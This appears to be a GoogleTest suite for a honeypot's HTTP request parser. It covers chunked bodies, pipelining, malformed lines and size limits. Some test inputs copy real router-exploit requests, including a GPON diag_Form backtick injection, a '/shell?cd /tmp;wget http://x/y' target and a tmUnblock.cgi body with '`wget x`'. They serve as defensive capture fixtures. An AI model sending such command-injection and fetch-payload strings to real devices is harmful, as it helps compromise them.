#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "honeypot/http/http_parser.h"

namespace kansoku::honeypot::http {
namespace {

std::span<const uint8_t> bytes(std::string_view text) {
    return {reinterpret_cast<const uint8_t*>(text.data()), text.size()};
}

std::vector<HttpRequestRecord> parseAll(std::string_view text, const HttpParserLimits& limits = {},
                                        bool finish = true) {
    HttpRequestParser parser(limits);
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes(text), out);
    if (finish) {
        parser.finish(out);
    }
    return out;
}

/// Feeds `text` split at `a` and `b` (a <= b).
std::vector<HttpRequestRecord> parseSplit(std::string_view text, size_t a, size_t b) {
    HttpRequestParser parser;
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes(text.substr(0, a)), out);
    parser.feed(bytes(text.substr(a, b - a)), out);
    parser.feed(bytes(text.substr(b)), out);
    parser.finish(out);
    return out;
}

void expectSame(const std::vector<HttpRequestRecord>& a, const std::vector<HttpRequestRecord>& b) {
    ASSERT_EQ(a.size(), b.size());
    for (size_t i = 0; i < a.size(); ++i) {
        EXPECT_EQ(a[i].method, b[i].method);
        EXPECT_EQ(a[i].target, b[i].target);
        EXPECT_EQ(a[i].version, b[i].version);
        EXPECT_EQ(a[i].body, b[i].body);
        EXPECT_EQ(a[i].body_bytes, b[i].body_bytes);
        EXPECT_EQ(a[i].reason, b[i].reason);
        EXPECT_EQ(a[i].complete, b[i].complete);
        ASSERT_EQ(a[i].headers.size(), b[i].headers.size());
        for (size_t h = 0; h < a[i].headers.size(); ++h) {
            EXPECT_EQ(a[i].headers[h].name, b[i].headers[h].name);
            EXPECT_EQ(a[i].headers[h].value, b[i].headers[h].value);
        }
    }
}

const std::string kGet = "GET /index.html?a=1&b=2 HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: x\r\n\r\n";
const std::string kPost = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.1:8080\r\n"
                          "Content-Length: 30\r\n\r\nXWebPageName=diag&dest_host=`x";
const std::string kChunked = "POST /up HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
                             "5\r\nhello\r\n7;ext=1\r\n, world\r\n0\r\nX-Trailer: 1\r\n\r\n";

TEST(HttpParser, ParsesGet) {
    auto out = parseAll(kGet);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].method, "GET");
    EXPECT_EQ(out[0].path, "/index.html");
    EXPECT_EQ(out[0].query, "a=1&b=2");
    EXPECT_EQ(out[0].version, "HTTP/1.1");
    ASSERT_NE(out[0].header("host"), nullptr);
    EXPECT_EQ(out[0].header("HOST")->value, "192.0.2.1");
    EXPECT_FALSE(out[0].malformed) << out[0].reason;
    EXPECT_TRUE(out[0].complete);
}

TEST(HttpParser, ContentLengthBody) {
    auto out = parseAll(kPost);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].body, "XWebPageName=diag&dest_host=`x");
    EXPECT_EQ(out[0].body_bytes, 30u);
    EXPECT_TRUE(out[0].complete);
    EXPECT_FALSE(out[0].malformed) << out[0].reason;
}

TEST(HttpParser, ChunkedBody) {
    auto out = parseAll(kChunked);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_TRUE(out[0].chunked);
    EXPECT_EQ(out[0].body, "hello, world");
    EXPECT_TRUE(out[0].complete);
    EXPECT_FALSE(out[0].malformed) << out[0].reason;
}

TEST(HttpParser, EverySplitPointGivesTheSameRecords) {
    for (const std::string& text : {kGet, kPost, kChunked, kGet + kPost + kChunked}) {
        auto whole = parseAll(text);
        ASSERT_FALSE(whole.empty());
        for (size_t a = 0; a <= text.size(); ++a) {
            for (size_t b = a; b <= text.size(); b += (text.size() > 100 ? 7 : 1)) {
                auto split = parseSplit(text, a, b);
                SCOPED_TRACE(testing::Message() << "split " << a << "," << b);
                expectSame(whole, split);
                if (testing::Test::HasFailure()) {
                    return;
                }
            }
        }
    }
}

TEST(HttpParser, PipelinedRequests) {
    auto out = parseAll(kGet + kGet + kPost);
    ASSERT_EQ(out.size(), 3u);
    EXPECT_EQ(out[2].method, "POST");
}

TEST(HttpParser, LfOnlyAndBareCr) {
    auto out = parseAll("GET / HTTP/1.1\nHost: a\n\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_TRUE(out[0].malformed);
    EXPECT_NE(out[0].reason.find("lf_line_ending"), std::string::npos);
    EXPECT_TRUE(out[0].complete);
    out = parseAll("GET /a\rb HTTP/1.1\r\nHost: a\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("bare_cr"), std::string::npos);
}

TEST(HttpParser, MissingVersionAndHost) {
    auto out = parseAll("GET /shell?cd+/tmp\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].target, "/shell?cd+/tmp");
    EXPECT_NE(out[0].reason.find("missing_version"), std::string::npos);
    out = parseAll("GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("missing_host"), std::string::npos);
    out = parseAll("GET / HTTP/1.0\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_FALSE(out[0].malformed) << out[0].reason;
}

TEST(HttpParser, SpaceInTarget) {
    auto out = parseAll("GET /shell?cd /tmp;wget http://x/y HTTP/1.1\r\nHost: a\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].target, "/shell?cd /tmp;wget http://x/y");
    EXPECT_EQ(out[0].version, "HTTP/1.1");
    EXPECT_NE(out[0].reason.find("space_in_target"), std::string::npos);
}

TEST(HttpParser, BinaryGarbageIsARecord) {
    std::string garbage("\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", 11);
    auto out = parseAll(garbage);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_TRUE(out[0].malformed);
    EXPECT_FALSE(out[0].complete);
    EXPECT_NE(out[0].reason.find("binary_request_line"), std::string::npos);
}

TEST(HttpParser, RequestLineLimit) {
    HttpParserLimits limits;
    limits.max_request_line_bytes = 64;
    HttpRequestParser parser(limits);
    std::vector<HttpRequestRecord> out;
    std::string text = "GET /" + std::string(200, 'a') + " HTTP/1.1\r\nHost: a\r\n\r\n" + kGet;
    parser.feed(bytes(text), out);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("request_line_too_long"), std::string::npos);
    EXPECT_EQ(out[0].method, "GET");
    EXPECT_LE(out[0].target.size(), 64u);
    EXPECT_TRUE(parser.stopped());
    EXPECT_EQ(parser.counters().request_line_limit, 1u);
    EXPECT_GT(parser.counters().bytes_discarded, 0u);
}

TEST(HttpParser, HeaderLimits) {
    HttpParserLimits limits;
    limits.max_headers = 3;
    std::string text = "GET / HTTP/1.1\r\nHost: a\r\n";
    for (int i = 0; i < 10; ++i) {
        text += "X-" + std::to_string(i) + ": v\r\n";
    }
    text += "\r\n";
    HttpRequestParser parser(limits);
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes(text), out);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].headers.size(), 3u);
    EXPECT_TRUE(out[0].headers_truncated);
    EXPECT_NE(out[0].reason.find("too_many_headers"), std::string::npos);
    EXPECT_EQ(parser.counters().header_count_limit, 8u);

    HttpParserLimits small;
    small.max_header_bytes = 100;
    HttpRequestParser huge(small);
    out.clear();
    huge.feed(bytes("GET / HTTP/1.1\r\nHost: a\r\nX-Big: " + std::string(500, 'b') + "\r\n\r\n"), out);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("headers_too_large"), std::string::npos);
    EXPECT_EQ(huge.counters().header_bytes_limit, 1u);
    EXPECT_TRUE(huge.stopped());
}

TEST(HttpParser, BodyCapCountsTheRest) {
    HttpParserLimits limits;
    limits.max_body_bytes_kept = 10;
    HttpRequestParser parser(limits);
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 25\r\n\r\n" + std::string(25, 'z') + kGet), out);
    ASSERT_EQ(out.size(), 2u);
    EXPECT_EQ(out[0].body, std::string(10, 'z'));
    EXPECT_EQ(out[0].body_bytes, 25u);
    EXPECT_TRUE(out[0].body_truncated);
    EXPECT_EQ(parser.counters().body_bytes_discarded, 15u);
    EXPECT_EQ(parser.counters().body_limit, 1u);
    EXPECT_EQ(out[1].method, "GET");
}

TEST(HttpParser, PostWithoutLengthReadsUntilClose) {
    HttpRequestParser parser;
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes("POST /tmUnblock.cgi HTTP/1.1\r\nHost: a\r\n\r\nttcp_ip=-h"), out);
    EXPECT_TRUE(out.empty());
    parser.feed(bytes(" `wget x`"), out);
    EXPECT_TRUE(out.empty());
    EXPECT_TRUE(parser.finish(out));
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].body, "ttcp_ip=-h `wget x`");
    EXPECT_NE(out[0].reason.find("body_without_length"), std::string::npos);

    HttpParserLimits limits;
    limits.max_body_bytes_kept = 8;
    HttpRequestParser capped(limits);
    out.clear();
    capped.feed(bytes("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n0123456789abc"), out);
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].body, "01234567");
    EXPECT_NE(out[0].reason.find("bad_content_length"), std::string::npos);
    EXPECT_EQ(capped.counters().body_limit, 1u);
}

TEST(HttpParser, BadChunks) {
    auto out = parseAll("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("bad_chunk_size"), std::string::npos);
    out = parseAll("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcXX\r\n0\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_NE(out[0].reason.find("bad_chunk_end"), std::string::npos);
    out = parseAll("POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n"
                   "3\r\nabc\r\n0\r\n\r\n");
    ASSERT_EQ(out.size(), 1u);
    EXPECT_EQ(out[0].body, "abc");
    EXPECT_NE(out[0].reason.find("te_and_cl"), std::string::npos);
}

TEST(HttpParser, RequestsPerConnection) {
    HttpParserLimits limits;
    limits.max_requests_per_connection = 2;
    HttpRequestParser parser(limits);
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes(kGet + kGet + kGet), out);
    EXPECT_EQ(out.size(), 2u);
    EXPECT_EQ(parser.counters().request_limit, 1u);
    EXPECT_EQ(parser.counters().bytes_discarded, kGet.size());
}

TEST(HttpParser, IncompleteOnClose) {
    HttpRequestParser parser;
    std::vector<HttpRequestRecord> out;
    parser.feed(bytes("GET /x HTTP/1.1\r\nHost: a\r\nUser-Ag"), out);
    EXPECT_TRUE(out.empty());
    EXPECT_TRUE(parser.midRequest());
    EXPECT_TRUE(parser.finish(out));
    ASSERT_EQ(out.size(), 1u);
    EXPECT_FALSE(out[0].complete);
    EXPECT_EQ(out[0].headers.size(), 2u);
    EXPECT_EQ(parser.counters().incomplete, 1u);
    EXPECT_FALSE(parser.finish(out));
}

} // namespace
} // namespace kansoku::honeypot::http
